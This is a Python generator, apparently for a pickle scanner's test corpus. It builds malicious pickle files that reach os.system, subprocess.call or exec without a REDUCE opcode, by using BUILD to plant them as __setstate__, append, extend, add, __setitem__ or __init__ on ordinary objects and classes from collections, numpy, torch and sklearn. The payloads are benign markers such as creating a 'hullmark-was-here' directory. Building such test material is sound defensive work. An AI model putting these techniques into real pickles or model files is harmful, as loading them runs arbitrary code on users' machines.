"""Calls that no REDUCE names: BUILD gives a harmless object a function for __setstate__, append, extend, add or __setitem__, and the next
BUILD, APPEND, APPENDS, ADDITEMS or SETITEM calls it. Functions, classes and instances carry such attributes alike.
Source: CPython Lib/pickle.py, load_build, load_append, load_appends, load_additems, load_setitem."""
from opcodes import *

RUN = name("posix", "system")
CALL = name("subprocess", "call")
EXEC = name("builtins", "exec")
HERE = "hullmark-was-here"
ADDITEMS = b"\x90"


def new(module, attribute):
    return name(module, attribute) + EMPTY_TUPLE + NEWOBJ


def called(module, attribute, *arguments):
    return call(name(module, attribute), *map(constant, arguments))


CARRIERS = {
    "exception": called("builtins", "Exception"),
    "stop-iteration": called("builtins", "StopIteration"),
    "user-dict": new("collections", "UserDict"),
    "ordered-dict": called("collections", "OrderedDict"),
    "counter": called("collections", "Counter"),
    "namedtuple-function": name("collections", "namedtuple"),
    "namespace": called("types", "SimpleNamespace"),
    "argparse": new("argparse", "Namespace"),
    "copyreg-function": name("copyreg", "_reconstructor"),
    "copyreg-object": call(name("copyreg", "_reconstructor"), name("argparse", "Namespace"), name("builtins", "object"), NONE),
    "re-function": name("re", "compile"),
    "heapq-function": name("heapq", "nlargest"),
    "numpy-function": name("numpy", "broadcast_shapes"),
    "numpy-poly": called("numpy", "poly1d", [1]),
    "numpy-random-state": name("numpy.random._pickle", "__randomstate_ctor"),
    "torch-function": name("torch._utils", "_rebuild_tensor_v2"),
    "torch-module": new("torch.nn.modules.module", "Module"),
    "torch-linear": new("torch.nn.modules.linear", "Linear"),
    "torch-storage-function": name("torch.storage", "_load_from_bytes"),
    "sklearn-estimator": new("sklearn.linear_model._base", "LinearRegression"),
    "sklearn-function": name("sklearn.base", "clone"),
}


def slots(carrier, word):
    yield f"pickle-slot-setstate-of-{word}.pkl", PROTO2 + carrier + dictionary(__setstate__=RUN) + BUILD + text(MARKER) + BUILD + STOP
    yield f"pickle-slot-append-of-{word}.pkl", PROTO2 + carrier + dictionary(append=RUN) + BUILD + text(MARKER) + APPEND + STOP
    yield f"pickle-slot-extend-of-{word}.pkl", PROTO2 + carrier + dictionary(extend=CALL) + BUILD + MARK + text("touch") + text(HERE) + APPENDS + STOP
    yield f"pickle-slot-add-of-{word}.pkl", PROTO4 + carrier + dictionary(add=RUN) + BUILD + MARK + text(MARKER) + ADDITEMS + STOP


# Through the second half of a state pair, which is set attribute by attribute, a class itself can be given methods.
CLASSES = {
    "user-dict": ("collections", "UserDict"),
    "namespace": ("argparse", "Namespace"),
    "torch-dataset": ("torch.utils.data.dataset", "Dataset"),
    "sklearn-mixin": ("sklearn.base", "ClassifierMixin"),
    "numpy-mixin": ("numpy.lib.mixins", "NDArrayOperatorsMixin"),
    "joblib-logger": ("joblib.logger", "Logger"),
}


def classes(word, module, attribute):
    owner = name(module, attribute)
    code = "import os; os.mkdir('hullmark-was-here')"
    # The first half is for the dict of the object, the second is set attribute by attribute.
    methods = items(NONE, dictionary(__setitem__=EXEC))
    instance = owner + EMPTY_TUPLE + NEWOBJ
    yield f"pickle-slot-setitem-of-class-{word}.pkl", PROTO2 + owner + methods + BUILD + POP + instance + text(code) + EMPTY_DICT + SETITEM + STOP
    yield f"pickle-slot-setstate-of-class-{word}.pkl", PROTO2 + owner + items(NONE, dictionary(__setstate__=RUN)) + BUILD + POP + instance + text(MARKER) + BUILD + STOP
    yield f"pickle-slot-init-of-class-{word}.pkl", PROTO2 + owner + items(NONE, dictionary(__init__=RUN)) + BUILD + POP + call(owner, text(MARKER)) + STOP
    yield f"pickle-slot-setitems-of-class-{word}.pkl", PROTO2 + owner + methods + BUILD + POP + instance + MARK + text(code) + EMPTY_DICT + SETITEMS + STOP


def cases():
    for word, carrier in CARRIERS.items():
        yield from slots(carrier, word)
    for word, (module, attribute) in CLASSES.items():
        yield from classes(word, module, attribute)
